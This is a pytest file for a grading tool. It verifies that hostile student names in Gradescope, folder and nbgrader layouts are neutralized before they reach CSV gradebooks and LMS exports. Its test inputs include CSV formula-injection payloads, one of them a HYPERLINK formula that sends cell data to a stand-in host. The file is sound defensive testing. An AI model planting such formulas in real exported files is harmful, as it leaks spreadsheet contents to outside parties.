"""No cell a student controls runs as a formula in a gradebook (issue 24, section 4).

Names come from the student: a Gradescope display name, a folder name, an nbgrader student id.
Every CSV the project writes goes through ``grader/outputs/spreadsheet.py``; these tests write a
gradebook from each layout with hostile names (the submissions are notebooks, so the batch
records them without starting a grading: the rows are written all the same) and read it back
with the csv module, as a spreadsheet would.
"""
from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import REPOSITORY

from grader.outputs import spreadsheet

HOSTILE = ['=HYPERLINK("https://example.invalid/?g="&C3)', "+1+1", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]
TRIGGERS = spreadsheet.FORMULA_TRIGGERS


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_text_cells_are_neutralized_and_numbers_stay_numbers():
    rows = [[name, 12.5, -0.5, None, "graded"] for name in HOSTILE]
    rows.append(["Ada, \"the first\"", 0, 3, 1.25, "ok"])
    table = cells(spreadsheet.csv_text(["name", "total", "delta", "max", "status"], rows))
    assert table[0] == ["name", "total", "delta", "max", "status"]
    for (name, total, delta, maximum, status), original in zip(table[1:], HOSTILE, strict=False):
        # shown as the text it is, never evaluated (and on one line)
        assert name == "'" + original.replace("\r", " "), name
        assert (total, delta, maximum, status) == ("12.5", "-0.5", "", "graded")
        assert float(delta) == -0.5                  # a negative score is still a number
    assert table[-1] == ["Ada, \"the first\"", "0", "3", "1.25", "ok"]
    assert spreadsheet.text_cell("Émilie du Châtelet") == "Émilie du Châtelet"


def batch(submissions: Path, out: Path) -> str:
    process = subprocess.run(
        [sys.executable, "-m", "grader", "batch", str(submissions), "--out", str(out),
         "--parts", "softmax", "--no-progress"], cwd=REPOSITORY, capture_output=True, text=True,
        timeout=300)
    assert (out / "grades.csv").is_file(), process.stdout + process.stderr
    return (out / "grades.csv").read_text()


def notebook(folder: Path) -> None:
    folder.mkdir(parents=True)
    (folder / "solution.ipynb").write_text("{}")


def assert_no_formula(text: str, expected_names: list[str]) -> None:
    table = cells(text)
    for row in table:
        for cell in row:
            assert not cell.startswith(TRIGGERS), (cell, row)
    shown = {cell for row in table[1:] for cell in row}
    for name in expected_names:
        assert any(name in cell for cell in shown), (name, table)


def gradescope_metadata(names: list[str]) -> str:
    entries = []
    for index, name in enumerate(names):
        quoted = name.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
        entries.append(f"submission_{index}:\n  :submitters:\n  - :name: \"{quoted}\"\n"
                       f"    :sid: '{index}'\n    :email: s{index}@example.edu\n")
    return "".join(entries)


def test_a_gradescope_export_with_formula_names(tmp_path):
    root = tmp_path / "export"
    root.mkdir()
    (root / "submission_metadata.yml").write_text(gradescope_metadata(HOSTILE))
    for index in range(len(HOSTILE)):
        notebook(root / f"submission_{index}")
    assert_no_formula(batch(root, tmp_path / "out"), ["HYPERLINK", "@SUM", "+1+1", "-2+3"])


@pytest.mark.parametrize("layout", ["folders", "nbgrader"])
def test_folder_names_that_are_formulas(tmp_path, layout):
    names = ['=HYPERLINK("x")', "+1+1", "-2+3", "@SUM(1)"]
    root = tmp_path / "class"
    for name in names:
        notebook(root / name if layout == "folders" else root / "submitted" / name / "hw1")
    if layout == "nbgrader":
        (root / "source" / "hw1").mkdir(parents=True)
    assert_no_formula(batch(root, tmp_path / "out"), ["+1+1", "SUM"])


def test_the_nbgrader_export_writes_through_the_same_writer():
    """``nbgrader export``'s grades.csv (scores from nbgrader's gradebook): a student id and a
    name that are formulas are text, the scores numbers."""
    from grader.batch.gradebook import grades_csv
    from grader import model
    from grader.batch.records import GRADED, StudentRecord

    record = StudentRecord(student="@SUM(1)", name='=HYPERLINK("x")', status=GRADED,
                           grading=model.invalid("none", ["softmax"]).to_json(), sid="=1+1",
                           email="+ada@example.edu")
    # nbgrader's export passes its gradebook's scores to the one gradebook writer
    scores = {"@SUM(1)": {"softmax": (3.0, 9.0)}}
    table = cells(grades_csv([record], ["softmax"], scores))
    assert table[1][:7] == ["'@SUM(1)", "'=HYPERLINK(\"x\")", "'=1+1", "'+ada@example.edu", "3", "9",
                            "3"], table
    # and so do the LMS files, with the same scores
    from grader.batch.lms import canvas_csv, moodle_csv

    for text in (canvas_csv([record], scores=scores), moodle_csv([record], scores=scores)):
        table = cells(text)
        assert all(not cell.startswith(TRIGGERS) for row in table for cell in row), table
        assert "3" in table[-1] and "'=1+1" in table[-1], table
